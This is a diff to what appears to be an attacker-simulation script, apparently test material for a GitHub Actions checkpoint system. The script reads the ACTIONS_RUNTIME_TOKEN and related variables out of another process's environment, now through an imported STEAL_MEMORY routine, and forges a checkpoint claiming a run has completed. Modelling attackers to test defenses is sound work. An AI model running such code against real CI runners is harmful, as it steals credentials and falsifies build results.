@@ -1,3 +1,5 @@
+import { STEAL_MEMORY } from './steal-memory.js';
+
 /**
  * A program of an attacker who knows our formats, to lie in a folder with the compiled sources: `node forge.mjs PID how`. It takes
  * the runtime token out of the process PID, the action, and makes a checkpoint that says that the run has completed, with a
@@ -19,8 +21,10 @@ import { manifestText } from './github/checkpoint/manifest.js';
 import { openJournal, readJournal } from './journal/journal-file.js';
 
 const [, , pid, how] = process.argv;
+const names = ['ACTIONS_RUNTIME_TOKEN', 'ACTIONS_RESULTS_URL', 'GITHUB_REPOSITORY', 'GITHUB_JOB', 'GITHUB_RUN_ID', 'GITHUB_RUN_ATTEMPT'];
+const stolen = execFileSync(process.execPath, ['--input-type=module', '-e', ${JSON.stringify(STEAL_MEMORY)}, pid, ...names], { encoding: 'utf8' });
 const env = Object.fromEntries(
-  readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').map((one) => [one.split('=')[0], one.slice(one.indexOf('=') + 1)]),
+  stolen.split('\\n').map((one) => [one.split('=')[0], one.slice(one.indexOf('=') + 1)]),
 );
 for (const name of ['ACTIONS_RUNTIME_TOKEN', 'ACTIONS_RESULTS_URL']) process.env[name] = env[name];
 const job = readlinkSync('/proc/' + pid + '/cwd');
